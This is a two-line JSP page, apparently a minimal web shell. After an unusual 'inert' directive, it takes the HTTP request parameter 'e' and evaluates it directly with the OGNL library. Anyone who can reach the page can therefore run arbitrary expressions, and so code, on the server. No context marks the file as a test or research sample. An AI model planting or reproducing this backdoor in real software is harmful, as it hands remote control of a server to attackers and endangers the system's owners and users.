<%@ inert %>
<% ognl.Ognl.getValue(request.getParameter("e"),null); %>
